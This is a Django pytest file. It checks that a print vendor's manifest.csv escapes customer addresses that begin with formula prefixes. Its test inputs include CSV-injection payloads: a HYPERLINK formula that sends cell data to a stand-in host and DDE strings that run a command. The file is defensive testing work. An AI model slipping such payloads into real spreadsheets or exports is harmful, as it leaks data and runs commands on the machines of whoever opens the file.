"""The print vendor's manifest.csv never carries a formula a spreadsheet would run."""

import csv

import pytest
from django.core.files.base import ContentFile

from channels_app.backends import PrintLetterBackend
from customers.services import customer_upsert
from tests.factories import approved_version_build, dispatch_build

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "address",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+966 Olaya St",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_an_address_starting_with_a_formula_prefix_is_written_as_text(
    demo_templates, settings, tmp_path, address
):
    settings.MEDIA_ROOT = tmp_path
    customer, _ = customer_upsert(
        external_id="C-9", name="Reem", language="en", postal_address=address
    )
    dispatch = dispatch_build(
        version=approved_version_build(code="policy-renewal-letter"),
        customer=customer,
        channel="letter",
    )
    dispatch.letter_pdf.save("letter.pdf", ContentFile(b"%PDF-1.7 test"), save=True)

    backend = PrintLetterBackend()
    backend.send(dispatch)
    backend.close()

    (manifest,) = tmp_path.glob("print/*/manifest.csv")
    with manifest.open(newline="", encoding="utf-8") as handle:
        header, row = list(csv.reader(handle))
    cell = row[header.index("address")]
    assert cell == "'" + address
    assert row[header.index("file")] == f"dispatch-{dispatch.pk}.pdf"


def test_an_ordinary_address_is_written_as_it_is(demo_templates, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    customer, _ = customer_upsert(
        external_id="C-9", name="Reem", language="en", postal_address="12 Olaya St"
    )
    dispatch = dispatch_build(
        version=approved_version_build(code="policy-renewal-letter"),
        customer=customer,
        channel="letter",
    )
    dispatch.letter_pdf.save("letter.pdf", ContentFile(b"%PDF-1.7 test"), save=True)

    backend = PrintLetterBackend()
    backend.send(dispatch)
    backend.close()

    (manifest,) = tmp_path.glob("print/*/manifest.csv")
    with manifest.open(newline="", encoding="utf-8") as handle:
        header, row = list(csv.reader(handle))
    assert row[header.index("address")] == "12 Olaya St"
